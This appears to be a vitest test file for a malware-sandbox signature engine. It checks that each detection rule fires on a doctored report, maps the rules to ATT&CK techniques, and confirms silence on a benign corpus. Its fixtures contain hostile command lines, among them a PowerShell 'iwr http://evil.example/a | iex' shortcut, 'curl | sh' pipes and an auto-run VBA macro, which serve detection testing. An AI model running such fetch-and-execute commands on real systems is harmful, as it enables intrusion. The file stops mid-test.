// Every rule fires on a report that shows its behaviour and stays silent on a clean one that
// resembles it; the engine keeps Cuckoo's signature shape, caps marks and scores as documented.
import { describe, expect, it } from 'vitest'
import { runSignatures, scoreOf, MAX_MARKS } from './engine'
import { ATTACK } from './attack'
import { RULES } from './rules/index'
import type { SignatureRule } from './signature'
import { corpusFixtures } from '../../../../test/benign-corpus'

type Report = Record<string, unknown>

/** A benign run: one process, a DNS lookup answered, an HTTPS flow to the answer, a .txt written. */
function clean(): Report {
  return {
    info: { id: 1, platform: 'linux' },
    target: { category: 'file', file: { name: 'invoice.sh', type: 'Bourne-Again shell script', yara: [] } },
    static: { pe_sections: [{ name: '.text', entropy: 6.1, size_of_data: '0x0000a000' }, { name: '.tiny', entropy: 7.9, size_of_data: '0x00000200' }],
      // A macro the user runs (a button): it starts a program, but nothing runs it on open.
      office: { format: 'ole', vba: ['Macros'], external_targets: [], macros: [{ stream: 'Macros/VBA/Module1', filename: 'Module1.bas',
        orig_code: 'Sub OpenCalculator()\r\n  Shell "calc.exe", 1\r\nEnd Sub\r\nSub Document_Opened_Log()\r\nEnd Sub\r\n', deobf: '' }] },
      // A shortcut to a document viewer, with arguments: what a user's own shortcuts look like.
      lnk: { flags: {}, attrs: [], basepath: 'C:\\Program Files\\Viewer\\viewer.exe', cmdline: '"C:\\Users\\a\\report.pdf"' } },
    strings: ['hello world', 'GetProcAddress'],
    behavior: {
      // The package started the script with the shell: that shell is not the sample starting one.
      processes: [{ pid: 100, ppid: 1, process_name: 'sh', process_path: '/bin/sh', command_line: '/bin/sh /tmp/invoice.sh', calls: [
        { api: 'execve', category: 'process', arguments: { filepath: '/bin/sh', argv: ['/bin/sh', '/tmp/invoice.sh'], environment: ['PATH=/usr/bin:/bin', 'HOME=/root', 'LANG=C'] }, return_value: 0, status: 1 },
        { api: 'openat', category: 'file', arguments: { filepath: '/etc/passwd', oflag: 'O_RDONLY|O_CLOEXEC' }, return_value: 3, status: 1 },
        { api: 'ptrace', category: 'process', arguments: { request: 'PTRACE_PEEKDATA', pid: 101 }, return_value: 0, status: 1 }
      ] }],
      processtree: [],
      apistats: { 100: { execve: 1, openat: 1, ptrace: 1 } },
      // What any shell script reads and writes: its libraries, the user database, a file of its own.
      summary: { file_created: ['/home/user/notes.txt'], file_deleted: ['/home/user/old.txt'], command_line: ['/bin/sh /tmp/invoice.sh'], connects_ip: ['93.184.216.34', '8.8.8.8'],
        file_read: ['/etc/ld.so.cache', '/lib/x86_64-linux-gnu/libc.so.6', '/etc/passwd', '/etc/nsswitch.conf', '/home/user/.ssh/known_hosts', '/home/user/.bashrc'],
        file_written: ['/home/user/notes.txt', '/tmp/crontab.txt'] }
    },
    network: {
      hosts: ['93.184.216.34'],
      domains: [{ domain: 'example.com', ip: '93.184.216.34' }],
      dns: [{ request: 'example.com', type: 'A', answers: [{ type: 'A', data: '93.184.216.34' }] }],
      http: [{ host: 'example.com', uri: '/', method: 'GET', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' }],
      tcp: [{ src: '10.0.0.2', sport: 40000, dst: '93.184.216.34', dport: 443 }],
      udp: [{ src: '10.0.0.2', sport: 5000, dst: '8.8.8.8', dport: 53 }]
    },
    dropped: [{ name: 'notes.txt', path: '/data/files/ab_notes.txt', filepath: '/home/user/notes.txt', type: 'ASCII text', yara: [] }],
    procmemory: [],
    // A protocol anomaly the bundled rules raise on benign traffic (priority 3): no signature.
    suricata: { alerts: [idsAlert(2221000, 3)] }
  }
}

function fired(report: Report, name: string): ReturnType<typeof runSignatures>['signatures'][number] | undefined {
  return runSignatures(report).signatures.find((s) => s.name === name)
}

/** For each rule: a change of the clean report that must fire it. */
const FIRES: Record<string, (r: Report & { behavior: Report; network: Report }) => void> = {
  drops_executable: (r) => { (r.dropped as Report[]).push({ name: 'x', filepath: 'C:\\Users\\a\\x.bin', type: 'PE32 executable (GUI) Intel 80386, for MS Windows' }) },
  drops_and_runs_executable: (r) => {
    ;((r.behavior.summary as Report).file_created as string[]).push('/home/user/.local/bin/updater')
    ;(r.behavior.processes as Report[]).push({ pid: 103, ppid: 100, process_name: 'updater', process_path: '/home/user/.local/bin/updater', command_line: 'updater' })
  },
  starts_shell: (r) => { (r.behavior.processes as Report[]).push({ pid: 101, ppid: 100, process_name: 'sh', process_path: '/bin/sh', command_line: 'sh -c "curl x | sh"' }) },
  contacts_bare_ip: (r) => { (r.network.tcp as Report[]).push({ src: '10.0.0.2', sport: 40001, dst: '45.33.32.156', dport: 4444 }) },
  resolves_many_domains: (r) => {
    for (let i = 0; i < 11; i++) (r.network.dns as Report[]).push({ request: `x${i}.dga.example`, type: 'A', answers: [] })
  },
  deletes_self: (r) => { ((r.behavior.summary as Report).file_deleted as string[]).push('/tmp/invoice.sh') },
  yara_match: (r) => { ((r.dropped as Report[])[0] as Report).yara = [{ name: 'Mirai_Botnet', meta: { author: 'x' }, strings: [], offsets: {} }] },
  suspicious_http: (r) => { (r.network.http as Report[]).push({ host: 'example.com', uri: '/a', method: 'GET' }) },
  persistence_autorun: (r) => { ((r.behavior.summary as Report).file_created as string[]).push('/etc/init.d/kworker') },
  persistence_cron: (r) => { ((r.behavior.summary as Report).file_created as string[]).push('/var/spool/cron/crontabs/root') },
  persistence_systemd: (r) => { ((r.behavior.summary as Report).file_written as string[]).push('/etc/systemd/system/dbus-update.service') },
  persistence_shell_rc: (r) => { ((r.behavior.summary as Report).file_written as string[]).push('/home/user/.bashrc') },
  lnk_starts_interpreter: (r) => {
    Object.assign(((r.static as Report).lnk as Report), { basepath: '', environment_target: '%windir%\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe',
      cmdline: '-w hidden -c "iwr http://evil.example/a | iex"', show_window: 'minimized' })
  },
  office_macro_autoexec: (r) => {
    ;(((r.static as Report).office as Report).macros as Report[]).push({ stream: 'Macros/VBA/ThisDocument', filename: 'ThisDocument.cls',
      orig_code: 'Private Sub Document_Open()\r\n  Shell Chr(99) & "md /c calc", 0\r\nEnd Sub\r\n', deobf: 'Private Sub Document_Open()\r\n  Shell "cmd /c calc", 0\r\nEnd Sub\r\n' })
  },
  ld_preload: (r) => {
    ;(r.behavior.processes as Report[]).push({ pid: 104, ppid: 100, process_name: 'ls', process_path: '/bin/ls', command_line: 'ls', calls: [
      { api: 'execve', category: 'process', arguments: { filepath: '/bin/ls', argv: ['ls'], environment: ['PATH=/usr/bin', 'LD_PRELOAD=/tmp/.x/libhide.so'] }, return_value: 0, status: 1 }] })
  },
  antidebug_ptrace: (r) => {
    ;(r.behavior.processes as Report[]).push({ pid: 105, ppid: 100, process_name: 'x', process_path: '/home/user/x', command_line: '/home/user/x', calls: [
      { api: 'ptrace', category: 'process', arguments: { request: 'PTRACE_TRACEME', pid: 0 }, return_value: -1, status: 0, errno: 'EPERM' }] })
  },
  reads_credentials: (r) => { ((r.behavior.summary as Report).file_read as string[]).push('/etc/shadow') },
  packed_section: (r) => { ((r.static as Report).pe_sections as Report[]).push({ name: 'UPX1', entropy: 7.91, size_of_data: '0x00010000' }) },
  runs_from_temp: (r) => { (r.behavior.processes as Report[]).push({ pid: 102, ppid: 100, process_name: 'kworkerd', process_path: '/tmp/.x/kworkerd', command_line: '/tmp/.x/kworkerd' }) },
  process_injection: (r) => {
    ;(r.behavior.processes as Report[]).push({ pid: 300, ppid: 100, process_name: 'a.exe', process_path: '/tmp/invoice.sh', calls: [
      { api: 'NtOpenProcess', arguments: { process_identifier: 400 } },
      { api: 'NtWriteVirtualMemory', arguments: { process_handle: '0x000000a4', base_address: '0x00400000' } },
      { api: 'NtCreateThreadEx', arguments: { process_handle: '0x000000a4' } }] })
  },
  vm_detection_strings: (r) => { (r.strings as string[]).push('SELECT * FROM Win32_Service WHERE Name="VBoxService"') },
  suricata_alert_high: (r) => { (r.suricata as { alerts: Report[] }).alerts.push(idsAlert(1100005, 1)) },
  suricata_alert: (r) => { (r.suricata as { alerts: Report[] }).alerts.push(idsAlert(1100001, 2), idsAlert(1100001, 2)) }
}

/** An IDS alert as processing/suricata writes one. */
function idsAlert(sid: number, severity: number): Report {
  return { sid, signature: `AVIARY test ${sid}`, category: 'x', severity, src_ip: '10.0.0.2', src_port: 40000, dst_ip: '45.33.32.156', dst_port: 80,
    protocol: 'TCP', timestamp: '2026-11-28T09:08:00.212709+0000', gid: 1, rev: 1, app_proto: 'http', pcap_cnt: 4, source: 'capture' }
}

describe('signature rules', () => {
  it('the clean report fires nothing and scores 0', () => {
    expect(runSignatures(clean())).toEqual({ signatures: [], score: 0 })
  })

  it('every rule of the rule set has a firing case here', () => {
    expect(RULES.map((r) => r.name).sort()).toEqual(Object.keys(FIRES).sort())
  })

  for (const [name, change] of Object.entries(FIRES)) {
    it(`${name} fires on a report that shows it, and only it fires`, () => {
      const r = clean() as Report & { behavior: Report; network: Report }
      change(r)
      const res = runSignatures(r)
      expect(res.signatures.map((s) => s.name)).toEqual([name])
      const sig = res.signatures[0]!
      expect(sig.markcount).toBeGreaterThan(0)
      expect(sig.marks.length).toBe(sig.markcount)
      expect(Object.keys(sig).sort()).toEqual(['description', 'families', 'markcount', 'marks', 'name', 'references', 'severity', 'ttp'])
      expect(res.score).toBe(sig.severity / 5)
    })
  }
})

/**
 * MITRE ATT&CK Enterprise (https://attack.mitre.org/techniques/): the id and name of every technique
 * Aviary's signatures may name, written out here by hand, not taken from attack.ts (which it checks).
 */
const ENTERPRISE: Readonly<Record<string, string>> = {
  'T1003.002': 'Security Account Manager',
  'T1003.004': 'LSA Secrets',
  'T1003.008': '/etc/passwd and /etc/shadow',
  T1027: 'Obfuscated Files or Information',
  'T1027.002': 'Software Packing',
  T1036: 'Masquerading',
  'T1037.004': 'RC Scripts',
  T1053: 'Scheduled Task/Job',
  'T1053.003': 'Cron',
  'T1053.005': 'Scheduled Task',
  T1055: 'Process Injection',
  T1059: 'Command and Scripting Interpreter',
  'T1059.001': 'PowerShell',
  'T1059.003': 'Windows Command Shell',
  'T1059.004': 'Unix Shell',
  'T1059.005': 'Visual Basic',
  'T1059.007': 'JavaScript',
  T1070: 'Indicator Removal',
  'T1070.004': 'File Deletion',
  T1071: 'Application Layer Protocol',
  'T1071.001': 'Web Protocols',
  T1105: 'Ingress Tool Transfer',
  T1106: 'Native API',
  T1112: 'Modify Registry',
  T1204: 'User Execution',
  'T1204.002': 'Malicious File',
  'T1218.005': 'Mshta',
  'T1218.011': 'Rundll32',
  'T1497.001': 'System Checks',
  T1539: 'Steal Web Session Cookie',
  T1543: 'Create or Modify System Process',
  'T1543.002': 'Systemd Service',
  'T1543.003': 'Windows Service',
  T1546: 'Event Triggered Execution',
  'T1546.004': 'Unix Shell Configuration Modification',
  'T1546.010': 'AppInit DLLs',
  'T1546.012': 'Image File Execution Options Injection',
  T1547: 'Boot or Logon Autostart Execution',
  'T1547.001': 'Registry Run Keys / Startup Folder',
  'T1547.004': 'Winlogon Helper DLL',
  'T1547.013': 'XDG Autostart Entries',
  'T1552.001': 'Credentials In Files',
  'T1552.004': 'Private Keys',
  'T1555.003': 'Credentials from Web Browsers',
  T1568: 'Dynamic Resolution',
  'T1574.006': 'Dynamic Linker Hijacking',
  T1622: 'Debugger Evasion'
}

/**
 * What each rule detects, and the techniques that fit it: the ids it may name (its `ttp` and the
 * `techniques` its evidence adds), reviewed against ATT&CK's description of each. yara_match names
 * none of its own: its ids are the ones the matched rules' meta names.
 */
const FITS: Readonly<Record<string, { detects: string; ids: readonly string[] }>> = {
  drops_executable: { detects: 'an executable the run brought onto the disk', ids: ['T1105'] },
  drops_and_runs_executable: { detects: 'a program the run wrote and then started through the process API', ids: ['T1105', 'T1106'] },
  starts_shell: { detects: 'a command interpreter running the sample\'s commands: sh/bash, cmd.exe, PowerShell, the script hosts, mshta', ids: ['T1059', 'T1059.001', 'T1059.003', 'T1059.004', 'T1059.005', 'T1059.007', 'T1218.005'] },
  contacts_bare_ip: { detects: 'talking to infrastructure by a hard-coded address', ids: ['T1071'] },
  resolves_many_domains: { detects: 'many distinct names looked up, as domain generation does', ids: ['T1568'] },
  deletes_self: { detects: 'the sample removing its own file', ids: ['T1070', 'T1070.004'] },
  yara_match: { detects: 'a YARA rule matching', ids: [] },
  suspicious_http: { detects: 'HTTP to a raw address or without a real user agent', ids: ['T1071.001'] },
  persistence_autorun: { detects: 'Run keys and the Startup folder, Winlogon, services, IFEO debuggers, AppInit DLLs, scheduled tasks, XDG autostart, RC scripts; registry writes as such', ids: ['T1037.004', 'T1053.005', 'T1112', 'T1543.003', 'T1546.010', 'T1546.012', 'T1547.001', 'T1547.004', 'T1547.013'] },
  packed_section: { detects: 'a packed or encrypted PE section', ids: ['T1027.002'] },
  runs_from_temp: { detects: 'a program started from a temporary folder, through the process API', ids: ['T1106'] },
  vm_detection_strings: { detects: 'checks for virtual-machine artefacts', ids: ['T1497.001'] },
  process_injection: { detects: 'code written into another process and run there', ids: ['T1055'] },
  persistence_cron: { detects: 'a cron job', ids: ['T1053.003'] },
  persistence_systemd: { detects: 'a systemd unit', ids: ['T1543.002'] },
  persistence_shell_rc: { detects: 'a shell start-up file changed', ids: ['T1546.004'] },
  ld_preload: { detects: 'the dynamic linker made to load a library first', ids: ['T1574.006'] },
  antidebug_ptrace: { detects: 'a debugger check by tracing oneself', ids: ['T1622'] },
  reads_credentials: { detects: 'shadow hashes, private keys, credential files, browsers\' logins and cookies, the SAM and SECURITY hives', ids: ['T1003.002', 'T1003.004', 'T1003.008', 'T1539', 'T1552.001', 'T1552.004', 'T1555.003'] },
  office_macro_autoexec: { detects: 'a document whose VBA runs when it is opened', ids: ['T1059.005', 'T1204.002'] },
  lnk_starts_interpreter: { detects: 'a shortcut the user opens that starts an interpreter', ids: ['T1059', 'T1204.002'] },
  suricata_alert_high: { detects: 'an IDS alert of priority 1', ids: [] },
  suricata_alert: { detects: 'an IDS alert of priority 2', ids: [] }
}

const declared = (rule: SignatureRule): string[] => [...new Set([...rule.ttp, ...(rule.techniques ?? [])])].sort()

/**
 * Each rule's silent case from the benign corpus (test/benign-corpus.ts; the reports of its real runs
 * in test/fixtures/benign-corpus/, what the rules read of them): the run that comes nearest to what
 * the rule looks for. Every rule must also stay silent on every other run of the corpus.
 */
const SILENT: Readonly<Record<string, { run: string; near: string }>> = {
  drops_executable: { run: 'cc', near: 'the linker writes a program' },
  drops_and_runs_executable: { run: 'make', near: 'it writes files and runs programs (cc, the linker)' },
  starts_shell: { run: 'tar', near: 'GNU tar starts /bin/sh -c gzip' },
  contacts_bare_ip: { run: 'curl', near: 'it connects to an address' },
  resolves_many_domains: { run: 'wget', near: 'it looks up a name' },
  deletes_self: { run: 'gzip', near: 'gzip removes the file it compressed' },
  yara_match: { run: 'installer', near: 'a PE and the files it drops are scanned' },
  suspicious_http: { run: 'curl', near: 'curl sends its own user agent' },
  persistence_autorun: { run: 'installer', near: 'an installer writes files into Program Files and its settings into the registry' },
  packed_section: { run: 'installer', near: 'a PE with sections' },
  runs_from_temp: { run: 'python', near: 'the sample runs from /tmp and starts a program' },
  vm_detection_strings: { run: 'installer', near: 'the strings of a PE' },
  process_injection: { run: 'installer', near: 'a Windows program' },
  persistence_cron: { run: 'tar', near: 'it extracts files' },
  persistence_systemd: { run: 'dpkg', near: 'it reads the package database, unit files\' names included' },
  persistence_shell_rc: { run: 'ssh-keygen', near: 'it writes into the home folder' },
  ld_preload: { run: 'python', near: 'pyenv\'s shims exec programs with a changed environment' },
  antidebug_ptrace: { run: 'coreutils', near: 'ordinary programs under the analyzer\'s strace' },
  reads_credentials: { run: 'ssh-keygen', near: 'it reads back the private key it made' },
  office_macro_autoexec: { run: 'python', near: 'the corpus has no Office document: none of its runs may fire it' },
  lnk_starts_interpreter: { run: 'installer', near: 'the corpus has no shortcut: none of its runs may fire it' },
  suricata_alert_high: { run: 'curl', near: 'the corpus\'s reports predate the IDS step: none of its runs may fire it (the clean report\'s priority-3 alert must not)' },
  suricata_alert: { run: 'wget', near: 'the corpus\'s reports predate the IDS step: none of its runs may fire it' }
}

describe('the benign corpus', () => {
  const corpus = corpusFixtures()

  it('holds a dozen runs or more, each rule\'s silent case among them', () => {
    expect(corpus.size).toBeGreaterThanOrEqual(12)
    expect(Object.keys(SILENT).sort()).toEqual(RULES.map((r) => r.name).sort())
    for (const [rule, { run }] of Object.entries(SILENT)) expect(corpus.has(run), `${rule}: ${run}`).toBe(true)
  })

  for (const [name, report] of corpus) {
    it(`${name}: no rule fires`, () => {
      const res = runSignatures(report)
      expect(res.signatures.map((s) => ({ name: s.name, marks: s.marks }))).toEqual([])
      expect(res.score).toBe(0)
    })
  }
})

describe('ATT&CK ids', () => {
  it('every rule declares the techniques that fit what it detects, and only those', () => {
    expect(Object.keys(FITS).sort()).toEqual(RULES.map((r) => r.name).sort())
    for (const rule of RULES) expect({ rule: rule.name, ids: declared(rule) }).toEqual({ rule: rule.name, ids: [...FITS[rule.name]!.ids].sort() })
  })

  it('every id is an ATT&CK Enterprise technique, and attack.ts names it as ATT&CK does, with a sentence', () => {
    for (const rule of RULES) for (const id of declared(rule)) expect(ENTERPRISE[id], `${rule.name}: ${id}`).toBeDefined()
    for (const [id, t] of Object.entries(ATTACK)) {
      expect({ id, name: t.short }).toEqual({ id, name: ENTERPRISE[id] })
      expect(t.long.length, id).toBeGreaterThan(20)
    }
  })

  it('a firing case names only techniques its rule declares, at least one (yara_match: its rules\')', () => {
    for (const [name, change] of Object.entries(FIRES)) {
      // IDS alerts, like YARA matches, carry no technique of their own.
      if (name === 'yara_match' || name.startsWith('suricata_')) continue
      const r = clean() as Report & { behavior: Report; network: Report }
      change(r)
      const ids = Object.keys(fired(r, name)!.ttp)
      expect(ids.length, name).toBeGreaterThan(0)
      for (const id of ids) expect(FITS[name]!.ids, `${name}: ${id}`).toContain(id)
    }
  })

  it('a fired signature carries Cuckoo 2.0.7\'s ttp shape, {id: {short, long}}, which MISP\'s cuckooimport reads', () => {
    const r = clean() as Report & { behavior: Report; network: Report }
    FIRES.deletes_self!(r)
    const sig = fired(r, 'deletes_self')!
    expect(sig.ttp).toEqual({ T1070: ATTACK.T1070, 'T1070.004': ATTACK['T1070.004'] })
    // MISP cuckooimport: for ttp_num, desc in sign["ttp"].items(): desc["short"]
    for (const [id, desc] of Object.entries(sig.ttp)) expect(`${desc.short} - ${id}`).toMatch(/^\S.* - T\d{4}/)
  })

  it('yara_match takes the techniques its rules name in their meta, and only well-formed ids', () => {
    const r = clean() as Report & { target: { file: Report } }
    r.target.file.yara = [{ name: 'Loader', meta: { mitre_attack: 't1059.001, T1105 bogus T12' }, strings: [], offsets: {} }]
    expect(Object.keys(fired(r, 'yara_match')!.ttp).sort()).toEqual(['T1059.001', 'T1105'])
  })
})

describe('rule details', () => {
  it('lnk_starts_interpreter: marks the target with its arguments; a shortcut to cmd without a base path is read from its relative path', () => {
    const r = clean() as Report & { behavior: Report; network: Report }
    FIRES.lnk_starts_interpreter!(r)
    expect(fired(r, 'lnk_starts_interpreter')!.marks).toEqual([{ type: 'ioc', category: 'lnk',
      ioc: '%windir%\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe -w hidden -c "iwr http://evil.example/a | iex"', description: 'starts minimized' }])
    const rel = clean()
    ;((rel.static as Report).lnk as Report) = { relapath: '..\\..\\Windows\\System32\\cmd.exe' }
    expect(fired(rel, 'lnk_starts_interpreter')?.marks[0]).toMatchObject({ ioc: '..\\..\\Windows\\System32\\cmd.exe' })
  })

  it('office_macro_autoexec: names the module, the procedure and what it starts; a commented-out AutoOpen is not one', () => {
    const r = clean() as Report & { behavior: Report; network: Report }
    FIRES.office_macro_autoexec!(r)
    expect(fired(r, 'office_macro_autoexec')!.marks).toEqual([
      { type: 'ioc', category: 'macro', ioc: 'ThisDocument.cls: Document_Open', description: 'runs when the document is opened or closed' },
      { type: 'ioc', category: 'macro', ioc: 'ThisDocument.cls: Shell', description: 'starts programs or fetches files' }
    ])
    const commented = clean()
    ;(((commented.static as Report).office as Report).macros as Report[]).push({ filename: 'M.bas', orig_code: "' Sub AutoOpen()\r\nx = \"Sub AutoOpen(\"\r\n" })
    expect(fired(commented, 'office_macro_autoexec')).toBeUndefined()
  })

  it('starts_shell sees Windows shells by name and by command line, not the package\'s launcher', () => {
    const r = clean() as Report & { behavior: Report }
    ;(r.behavior.summary as Report).command_line = ['cmd.exe /c "C:\\Users\\a\\AppData\\Local\\Temp\\invoice.sh"','"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -enc AAAA']
    expect(fired(r, 'starts_shell')?.marks).toEqual([{ type: 'ioc', category: 'cmdline', ioc: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -enc AAAA', description: null }])
  })

  it('starts_shell: the sample\'s own shells count; an installed program\'s own sh -c and programs written in shell do not', () => {
    const withProcs = (procs: Report[], written: string[] = []): Report => {
      const r = clean() as Report & { behavior: Report }
      ;(r.behavior.processes as Report[]).push(...procs)
      ;((r.behavior.summary as Report).file_written as string[]).push(...written)
      return r
    }
    const p = (pid: number, ppid: number, name: string, path: string, cmd: string): Report => ({ pid, ppid, process_name: name, process_path: path, command_line: cmd })
    // GNU tar -z, make's recipes, gunzip/zgrep and pyenv's shims (shell scripts, and their subshells).
    expect(fired(withProcs([
      p(110, 100, 'tar', '/usr/bin/tar', 'tar -czf /tmp/x.tgz -C /tmp src'), p(111, 110, 'sh', '/usr/bin/dash', '/bin/sh -c gzip'),
      p(112, 100, 'make', '/usr/bin/make', 'make -C /tmp/b'), p(113, 112, 'sh', '/usr/bin/dash', '/bin/sh -c echo linking > build.log && cc -o prog main.o'),
      p(114, 100, 'zgrep', '/usr/bin/dash', 'zgrep -c ID /tmp/f.gz'), p(115, 114, 'sh', '/usr/bin/dash', '/bin/sh /usr/bin/zgrep -c ID /tmp/f.gz'),
      p(116, 100, 'bash', '/usr/bin/bash', 'bash /root/.pyenv/libexec/pyenv-version-name -f')
    ]), 'starts_shell')).toBeUndefined()
    // The sample handing commands through another program, and a script the run wrote.
    const sig = fired(withProcs([
      p(120, 100, 'timeout', '/usr/bin/timeout', "timeout 10 sh -c id > /tmp/id.txt"), p(121, 120, 'sh', '/usr/bin/dash', "sh -c id > /tmp/id.txt"),
      p(122, 100, 'bash', '/usr/bin/bash', 'bash /tmp/.x/stage2.sh'),
      p(123, 100, 'tar', '/usr/bin/tar', 'tar -xf /tmp/a.tar'), p(124, 123, 'sh', '/usr/bin/dash', 'sh -c curl -s http://x/y | sh')
    ], ['/tmp/.x/stage2.sh']), 'starts_shell')
    expect(sig?.marks).toEqual([
      { type: 'generic', pid: 121, process_name: 'sh', command_line: 'sh -c id > /tmp/id.txt', why: 'commands handed over by timeout' },
      { type: 'generic', pid: 122, process_name: 'bash', command_line: 'bash /tmp/.x/stage2.sh', why: 'runs /tmp/.x/stage2.sh, which the run wrote' }
    ])
    expect(Object.keys(sig!.ttp).sort()).toEqual(['T1059', 'T1059.004'])
    // A shell the sample started runs commands of the sample's, and so does the shell that one starts.
    const nested = fired(withProcs([p(130, 100, 'sh', '/usr/bin/dash', 'sh -c curl x | sh'), p(131, 130, 'sh', '/usr/bin/dash', 'sh')]), 'starts_shell')
    expect(nested?.marks.map((m) => (m as { pid: number }).pid)).toEqual([130, 131])
  })

  it('starts_shell on Windows: cmd.exe named from its image fires as Windows Command Shell; the package\'s launcher does not', () => {
    const r = clean() as Report & { behavior: Report }
    r.target = { category: 'file', file: { name: 'dropper.exe' } }
    ;(r.behavior.summary as Report).command_line = []
    r.behavior.processes = [
      { pid: 10, ppid: 1, process_name: 'dropper.exe', process_path: 'C:\\Users\\a\\AppData\\Local\\Temp\\dropper.exe', command_line: '"C:\\Users\\a\\AppData\\Local\\Temp\\dropper.exe"' },
      { pid: 11, ppid: 10, process_name: 'cmd.exe', process_path: 'C:\\windows\\system32\\cmd.exe', command_line: 'cmd /c echo from cmd > C:\\users\\Public\\cmd.txt' }
    ]
    const sig = fired(r, 'starts_shell')
    expect(sig?.marks).toEqual([{ type: 'generic', pid: 11, process_name: 'cmd.exe', command_line: 'cmd /c echo from cmd > C:\\users\\Public\\cmd.txt', why: 'started by the sample' }])
    expect(Object.keys(sig!.ttp).sort()).toEqual(['T1059', 'T1059.003'])
  })

  it('drops_executable: a program a system linker wrote is a build, not a drop; one the sample wrote is', () => {
    const r = clean() as Report & { behavior: Report }
    r.behavior.processes = [
      { pid: 100, ppid: 1, process_name: 'sh', process_path: '/usr/bin/dash', command_line: '/bin/sh /tmp/build.sh' },
      { pid: 101, ppid: 100, process_name: 'cc', process_path: '/usr/bin/x86_64-linux-gnu-gcc-12', command_line: 'cc -o /tmp/b/hello /tmp/b/hello.c' },
      { pid: 102, ppid: 101, process_name: 'collect2', process_path: '/usr/libexec/gcc/x86_64-linux-gnu/12/collect2', command_line: '/usr/libexec/gcc/x86_64-linux-gnu/12/collect2 -o /tmp/b/hello' },
      { pid: 103, ppid: 102, process_name: 'ld', process_path: '/usr/bin/x86_64-linux-gnu-ld.bfd', command_line: '/usr/bin/ld -o /tmp/b/hello' }
    ]
    const elf = 'ELF 64-bit LSB pie executable, x86-64, version 1 (SYSV), dynamically linked'
    r.dropped = [{ name: 'hello', filepath: '/tmp/b/hello', type: elf, pids: [103] }]
    expect(fired(r, 'drops_executable')).toBeUndefined()
    // The same file written by the sample's own process, or by an "ld" the run dropped itself.
    ;(r.dropped as Report[])[0]!.pids = [100]
    expect(fired(r, 'drops_executable')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/tmp/b/hello'])
    ;(r.behavior.processes as Report[])[3]!.process_path = '/tmp/ld'
    ;((r.behavior.summary as Report).file_written as string[]).push('/tmp/ld')
    ;(r.dropped as Report[])[0]!.pids = [103]
    expect(fired(r, 'drops_executable')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/tmp/b/hello'])
  })

  it('contacts_bare_ip ignores resolved, private and DNS-server addresses, and marks raw-IP HTTP hosts', () => {
    const r = clean() as Report & { network: Report }
    ;(r.network.tcp as Report[]).push({ dst: '192.168.1.5', dport: 445 }, { dst: '100.64.0.1', dport: 80 }, { dst: '93.184.216.34', dport: 80 })
    expect(fired(r, 'contacts_bare_ip')).toBeUndefined()
    ;(r.network.http as Report[]).push({ host: '203.0.114.9:8080', uri: '/gate.php', method: 'POST', 'user-agent': 'Mozilla/5.0 (Windows NT 10.0)' })
    const sig = fired(r, 'contacts_bare_ip')
    expect(sig?.marks).toEqual([{ type: 'ioc', category: 'ip', ioc: '203.0.114.9', description: 'http host' }])
  })

  it('resolves_many_domains needs more than 10 distinct names (case and trailing dot folded)', () => {
    const r = clean() as Report & { network: Report }
    const dns = r.network.dns as Report[]
    for (let i = 0; i < 9; i++) dns.push({ request: `d${i}.example`, answers: [] })
    dns.push({ request: 'D0.EXAMPLE.', answers: [] })
    expect(fired(r, 'resolves_many_domains')).toBeUndefined() // 10 names
    dns.push({ request: 'd9.example', answers: [] })
    expect(fired(r, 'resolves_many_domains')?.markcount).toBe(11)
  })

  it('suspicious_http: a missing, empty or bare Mozilla agent fires; browsers\' and tools\' own agents (curl, wget, a library) do not', () => {
    for (const ua of ['', '-', 'Mozilla/4.0', 'Mozilla/5.0', null]) {
      const r = clean() as Report & { network: Report }
      r.network.http = [{ host: 'example.com', uri: '/', method: 'GET', ...(ua === null ? {} : { 'user-agent': ua }) }]
      expect(fired(r, 'suspicious_http'), String(ua)).toBeDefined()
    }
    for (const ua of ['curl/8.5.0', 'Wget/1.21.3', 'Go-http-client/1.1', 'python-requests/2.31', 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)']) {
      const ok = clean() as Report & { network: Report }
      ;(ok.network.http as Report[]).push({ host: 'example.com', uri: '/', 'user-agent': ua })
      expect(fired(ok, 'suspicious_http'), ua).toBeUndefined()
    }
    const none = clean() as Report & { network: Report }
    none.network.http = [{ host: 'some.domain', port: 80, uri: 'http://some.domain/payload', path: '/payload', method: 'GET' }]
    expect(fired(none, 'suspicious_http')?.marks).toEqual([
      { type: 'ioc', category: 'user-agent', ioc: '', description: 'no user agent in GET http://some.domain/payload' }
    ])
  })

  it('suspicious_http marks a full-URL uri once, not as host + URL', () => {
    const r = clean() as Report & { network: Report }
    r.network.http = [{ host: '203.0.113.9', port: 80, uri: 'http://203.0.113.9/payload', path: '/payload', method: 'POST', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' }]
    expect(fired(r, 'suspicious_http')?.marks).toEqual([{ type: 'ioc', category: 'url', ioc: 'POST http://203.0.113.9/payload', description: 'request to a raw IP address' }])
  })

  it('drops_executable goes by content: random bytes named .exe or .bin are data; an ELF or PE is an executable', () => {
    const r = clean() as Report & { network: Report }
    r.dropped = [
      { name: 'payload.bin', filepath: '/tmp/payload.bin', type: 'data' },
      { name: 'random.exe', filepath: 'C:\\Users\\Public\\random.exe', type: 'data' }
    ]
    ;((r.behavior as Report).summary as Report).file_written = ['/tmp/payload.bin', 'C:\\Users\\Public\\random.exe']
    expect(fired(r, 'drops_executable')).toBeUndefined()
    ;(r.dropped as Report[]).push({ name: 'x', filepath: '/tmp/.x/kworkerd', type: 'ELF 64-bit LSB pie executable, x86-64, version 1 (SYSV), dynamically linked' })
    expect(fired(r, 'drops_executable')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/tmp/.x/kworkerd'])
    // A written .exe whose bytes never arrived is still worth a mark.
    ;((r.behavior as Report).summary as Report).file_created = ['C:\\Users\\a\\AppData\\Roaming\\upd.exe']
    expect(fired(r, 'drops_executable')?.markcount).toBe(2)
  })

  it('persistence_autorun: Run key, Startup folder, schtasks; Linux cron, systemd and shell files are the specific rules\' own', () => {
    const r = clean() as Report & { behavior: Report }
